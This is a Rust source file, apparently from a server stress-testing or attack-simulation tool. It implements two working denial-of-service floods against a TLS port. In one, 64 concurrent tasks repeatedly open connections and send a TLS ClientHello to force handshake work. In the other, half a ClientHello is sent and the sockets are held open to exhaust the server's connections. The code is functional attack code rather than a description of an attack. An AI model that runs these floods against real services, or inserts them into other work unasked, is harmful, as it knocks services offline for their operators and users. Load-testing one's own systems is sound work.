//! Floods of a port that speaks TLS.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::rustls::{ClientConfig, ClientConnection, RootCertStore};

use crate::Done;
use crate::attackers::Counts;
use crate::floods::{HEIGHT, open_sockets};

/// Returns the first message of TLS.
fn hello() -> Done<Vec<u8>> {
    // The attackers leave before they would check a certificate.
    let config = ClientConfig::builder().with_root_certificates(RootCertStore::empty()).with_no_client_auth();
    let mut client = ClientConnection::new(Arc::new(config), "localhost".try_into()?)?;
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes)?;
    Ok(bytes)
}

/// Begins TLS again and again.
pub(crate) async fn begun(address: String) -> Done<Counts> {
    let hello = hello()?;
    let begun: [Arc<AtomicUsize>; 2] = Default::default();
    for _ in 0..64 {
        let (address, hello, begun) = (address.clone(), hello.clone(), begun.clone());
        tokio::spawn(async move {
            loop {
                let answer = async {
                    let mut socket = TcpStream::connect(&address).await?;
                    socket.write_all(&hello).await?;
                    socket.read(&mut [0; 4_096]).await
                };
                // A socket that the server closes has no answer, or an alert of seven bytes.
                let is_signed = answer.await.is_ok_and(|count| count > 7);
                begun[usize::from(is_signed)].fetch_add(1, Ordering::Relaxed);
            }
        });
    }
    tokio::time::sleep(HEIGHT / 2).await;
    let [closed, signed] = begun.map(|count| count.load(Ordering::Relaxed));
    Ok([("closed in 5 s".to_owned(), closed), ("signed in 5 s".to_owned(), signed)].into())
}

/// Sends half of the first message of TLS, and waits.
pub(crate) async fn unfinished(address: String) -> Done<Counts> {
    let hello = hello()?;
    open_sockets(&address, &hello[..hello.len() / 2]).await
}
